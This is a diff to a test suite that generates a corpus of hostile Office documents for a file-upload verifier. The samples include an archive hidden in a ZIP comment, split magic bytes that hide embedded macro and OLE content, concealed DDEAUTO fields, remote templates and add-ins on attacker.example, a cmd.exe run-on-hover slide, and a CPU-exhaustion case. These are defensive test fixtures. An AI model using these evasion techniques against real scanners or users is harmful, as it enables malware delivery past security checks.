@@ -455,6 +455,47 @@ const eightMiBOfZeros = () =>
     return { data, compressed: deflateRawSync(data, { level: 9 }), crc: crc32(data) };
   }));
 
+/**
+ * A raw deflate stream of `data` whose first block holds only its first two bytes, followed by
+ * 16 KiB of empty stored blocks: fed to an inflater in pieces of at most 8 KiB, as the verifier
+ * does, the first piece inflates to those two bytes alone, whatever the storage's chunking. A
+ * check of "the first chunk" for a magic number never sees more than two bytes of it.
+ */
+function deflateFirstTwoBytesAlone(data: Uint8Array): Uint8Array {
+  const stored = (bytes: Uint8Array, final: boolean) =>
+    concat([new Uint8Array([final ? 1 : 0]), u16(bytes.length), u16(~bytes.length & 0xffff), bytes]);
+  const blocks = [stored(data.subarray(0, 2), false)];
+  for (let i = 0; i < 3300; i++) blocks.push(stored(new Uint8Array(0), false));
+  for (let at = 2; at < data.length; at += 0xffff) blocks.push(stored(data.subarray(at, at + 0xffff), at + 0xffff >= data.length));
+  return concat(blocks);
+}
+
+/** A whole archive's offsets moved by `by` bytes, as if it started that far into a file. */
+function rebased(zip: Uint8Array, by: number): Uint8Array {
+  const out = zip.slice();
+  const v = new DataView(out.buffer);
+  const end = out.length - 22;
+  const count = v.getUint16(end + 10, true);
+  let at = v.getUint32(end + 16, true);
+  v.setUint32(end + 16, at + by, true);
+  for (let i = 0; i < count; i++) {
+    v.setUint32(at + 42, v.getUint32(at + 42, true) + by, true);
+    at += 46 + v.getUint16(at + 28, true) + v.getUint16(at + 30, true) + v.getUint16(at + 32, true);
+  }
+  return out;
+}
+
+/**
+ * `outer` with `hidden`, a second complete archive, in its end record's comment, followed by one
+ * more byte. A reader that takes the end record whose comment runs exactly to the end of the file
+ * finds `outer`; readers that take the last end-record signature (LibreOffice, Python's zipfile)
+ * or accept a comment shorter than the rest of the file (Go's archive/zip) find `hidden`.
+ */
+function withArchiveInComment(outer: Uint8Array, hidden: Uint8Array): Uint8Array {
+  const comment = concat([rebased(hidden, outer.length), utf8('!')]);
+  return concat([outer.subarray(0, outer.length - 2), u16(comment.length), comment]);
+}
+
 // ---------------------------------------------------------------------------------------------
 // The corpus
 
@@ -477,6 +518,13 @@ const REASON = {
   oleOrExternal: /OLE|external/i,
   dde: /DDE/,
   notWord: /not a Word document/,
+  /** A second end record, or any end-record comment (office suites write none). */
+  endRecord: /end record|comment|outside its ZIP entries/,
+  malformedRels: /relationships .*malformed|malformed/,
+  altChunk: /altChunk|imports? (a|an|other)|DDE/i,
+  addIn: /add-in|web extension/i,
+  fieldNesting: /fields?/i,
+  compressed: /compressed data|outside its ZIP entries/,
 };
 
 /** A docx carrying `word/<name>`, a VBA-looking payload declared only as neutral bytes: the name is the defect. */
@@ -1020,6 +1068,240 @@ export async function makeHostileCorpus(): Promise<HostileSample[]> {
             ),
           ],
         ],
+      }),
+    ),
+  );
+
+  // --- Found in review: what the verifier did not see ----------------------------------------------
+  // A second, complete archive in the end record's comment. LibreOffice (7.4 tested) opens the
+  // hidden one and, opening it, fetches the external image; Python's zipfile lists it too. The
+  // verifier judges the decoy, so nothing in the hidden archive is ever judged.
+  add(
+    'second-archive-in-end-record-comment',
+    'docx',
+    REASON.endRecord,
+    withArchiveInComment(
+      buildZip(docx({ body: para('Quarterly report') })),
+      buildZip(
+        docx({
+          body:
+            inlineDrawing(
+              'Picture 1',
+              `<a:graphicData uri="${NS.pic}"><pic:pic xmlns:pic="${NS.pic}"><pic:nvPicPr><pic:cNvPr id="0" name="pixel.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
+                '<pic:blipFill><a:blip r:link="rId1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>' +
+                '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>',
+            ) + complexField([` DDEAUTO ${DDE_ARGS} `]),
+          rels: [{ id: 'rId1', type: REL('image'), target: 'https://attacker.example/pixel.png', external: true }],
+        }),
+      ),
+    ),
+  );
+  // An embedded workbook with a VBA project whose deflate stream yields "PK" alone first: the
+  // sniff for PK\3\4 only looks at the first inflated chunk, so the package is never opened.
+  {
+    const macroWorkbook = buildZip(
+      xlsx({
+        defaults: [['bin', CT.octet]],
+        rels: [{ id: 'rId9', type: MS_REL('vbaProject'), target: 'payload.bin' }],
+        parts: [['xl/payload.bin', noise(1024)]],
+      }),
+    );
+    add(
+      'embedded-package-magic-split',
+      'docx',
+      REASON.macro,
+      buildZip([
+        ...docx({
+          body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
+          rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
+          defaults: [['xlsx', CT.xlsx]],
+          overrides: [['/word/charts/chart1.xml', CT.chart]],
+          parts: [
+            ['word/charts/chart1.xml', CHART],
+            [
+              'word/charts/_rels/chart1.xml.rels',
+              relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }]),
+            ],
+          ],
+        }),
+        {
+          name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
+          data: macroWorkbook,
+          compressed: deflateFirstTwoBytesAlone(macroWorkbook),
+        },
+      ]),
+    );
+  }
+  // The same split over an OLE compound file's magic, under a neutral name and content type.
+  {
+    const compound = cfb(4096);
+    add(
+      'cfb-magic-split',
+      'docx',
+      REASON.ole,
+      buildZip([
+        ...docx({ defaults: [['bin', CT.octet]] }),
+        { name: 'word/media/data.bin', data: compound, compressed: deflateFirstTwoBytesAlone(compound) },
+      ]),
+    );
+  }
+  // Field code is every character between a field's begin and separate, whatever element holds it:
+  // Word and LibreOffice (tested: a HYPERLINK written this way becomes a link) read w:t and
+  // w:delText there as instruction text, the verifier only w:instrText and w:delInstrText.
+  const fieldCodeIn = (run: string) =>
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
+    run +
+    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Loading</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
+  add(
+    'dde-in-field-text-run',
+    'docx',
+    REASON.dde,
+    buildZip(docx({ body: fieldCodeIn(`<w:r><w:t xml:space="preserve"> DDEAUTO ${DDE_ARGS} </w:t></w:r>`) })),
+  );
+  add(
+    'dde-in-field-deleted-text',
+    'docx',
+    REASON.dde,
+    buildZip(
+      docx({
+        body: fieldCodeIn(
+          `<w:del w:id="1" w:author="A" w:date="2024-01-01T00:00:00Z"><w:r><w:delText xml:space="preserve"> DDEAUTO ${DDE_ARGS} </w:delText></w:r></w:del>`,
+        ),
+      }),
+    ),
+  );
+  // One instruction text of DDEAUTO and 5,000 trailing spaces: only the last 4,096 characters of
+  // an instruction are kept, and they are all spaces when it is judged. Word keeps field codes far
+  // longer than that (reference managers store whole citations in them).
+  add('dde-instruction-padded', 'docx', REASON.dde, buildZip(docx({ body: complexField([` DDEAUTO ${DDE_ARGS}${' '.repeat(5000)}`]) })));
+  // altChunk: Word imports another document into this one when it opens, here RTF carrying a
+  // DDEAUTO field (RTF can as well carry OLE objects, \object\objemb). Nothing reads the RTF.
+  add(
+    'altchunk-rtf-dde',
+    'docx',
+    REASON.altChunk,
+    buildZip(
+      docx({
+        body: '<w:altChunk r:id="rId1"/><w:p/>',
+        rels: [{ id: 'rId1', type: REL('aFChunk'), target: 'afchunk.rtf' }],
+        defaults: [['rtf', 'application/rtf']],
+        parts: [
+          [
+            'word/afchunk.rtf',
+            `{\\rtf1\\ansi {\\field{\\*\\fldinst DDEAUTO ${DDE_ARGS.replaceAll('\\', '\\\\')}}{\\fldrslt Loading}}\\par}`,
+          ],
+        ],
+      }),
+    ),
+  );
+  // A relationships part whose root is not in the OPC namespace: its relationships are never judged,
+  // yet LibreOffice (tested) follows them (it names elements, not namespaces, when it reads rels).
+  add(
+    'relationships-foreign-namespace',
+    'docx',
+    REASON.malformedRels,
+    buildZip(
+      docx({
+        rels: [{ id: 'rId1', type: REL('settings'), target: 'settings.xml' }],
+        overrides: [['/word/settings.xml', CT.settings]],
+        parts: [
+          ['word/settings.xml', `${XML}<w:settings xmlns:w="${NS.w}" xmlns:r="${NS.r}"><w:attachedTemplate r:id="rId1"/></w:settings>`],
+          [
+            'word/_rels/settings.xml.rels',
+            relationships([
+              { id: 'rId1', type: REL('attachedTemplate'), target: 'https://attacker.example/t.dotm', external: true },
+            ]).replace(NS.packageRels, 'urn:not-the-opc-namespace'),
+          ],
+        ],
+      }),
+    ),
+  );
+  // PowerPoint's "Run program" action setting, on mouse-over: a hyperlink relationship whose target
+  // is a local program (a file: URL), run when the pointer passes over the shape in a slide show.
+  add(
+    'pptx-run-program-action',
+    'pptx',
+    REASON.external,
+    buildZip(
+      pptx({
+        shapes:
+          '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Button"><a:hlinkMouseOver r:id="rId1" action="ppaction://program"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>' +
+          '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9144000" cy="6858000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:sp>',
+        slideRels: [{ id: 'rId1', type: REL('hyperlink'), target: 'file:///C:/Windows/System32/cmd.exe', external: true }],
+      }),
+    ),
+  );
+  // An Office web add-in, shown (and its JavaScript run) when the document opens, from a catalog on
+  // the attacker's file share.
+  add(
+    'webextension-taskpane',
+    'docx',
+    REASON.addIn,
+    buildZip([
+      ...docx({
+        overrides: [
+          ['/word/webextensions/taskpanes.xml', 'application/vnd.ms-office.webextensiontaskpanes+xml'],
+          ['/word/webextensions/webextension1.xml', 'application/vnd.ms-office.webextension+xml'],
+        ],
+      }).map((e) =>
+        e.name === '_rels/.rels'
+          ? {
+              ...e,
+              data: utf8(
+                relationships([
+                  { id: 'rId1', type: REL('officeDocument'), target: 'word/document.xml' },
+                  {
+                    id: 'rId2',
+                    type: 'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
+                    target: 'word/webextensions/taskpanes.xml',
+                  },
+                ]),
+              ),
+            }
+          : e,
+      ),
+      {
+        name: 'word/webextensions/taskpanes.xml',
+        data: utf8(
+          `${XML}<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11" xmlns:r="${NS.r}">` +
+            '<wetp:taskpane dockstate="right" visibility="1" width="350" row="0"><wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>',
+        ),
+      },
+      {
+        name: 'word/webextensions/_rels/taskpanes.xml.rels',
+        data: utf8(
+          relationships([
+            { id: 'rId1', type: 'http://schemas.microsoft.com/office/2011/relationships/webextension', target: 'webextension1.xml' },
+          ]),
+        ),
+      },
+      {
+        name: 'word/webextensions/webextension1.xml',
+        data: utf8(
+          `${XML}<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{6A0B1C2D-0000-4000-8000-000000000001}">` +
+            '<we:reference id="{6A0B1C2D-0000-4000-8000-000000000002}" version="1.0.0.0" store="\\\\attacker.example\\catalog" storeType="FileSystem"/>' +
+            '<we:properties><we:property name="Office.AutoShowTaskpaneWithDocument" value="true"/></we:properties><we:bindings/></we:webextension>',
+        ),
+      },
+    ]),
+  );
+  // Thousands of fields opened and never closed, then as many instruction texts: every text is
+  // appended to every open field, and each open field's text re-cut to 4,096 characters, so the
+  // work grows with their product: 4,000 of each (a 200 KB upload) take about 5 s of CPU, 8,000 about
+  // 5 minutes (Node 20, this machine). Kept at 4,000 so that the suite stays fast while it is accepted.
+  add(
+    'field-nesting-cpu',
+    'docx',
+    REASON.fieldNesting,
+    buildZip(
+      docx({
+        body:
+          '<w:p>' +
+          '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(4000) +
+          '<w:r><w:instrText>a</w:instrText></w:r>'.repeat(4000) +
+          '</w:p>',
+        defaults: [['bin', CT.octet]],
+        parts: [['word/media/padding.bin', noise(200_000)]],
       }),
     ),
   );
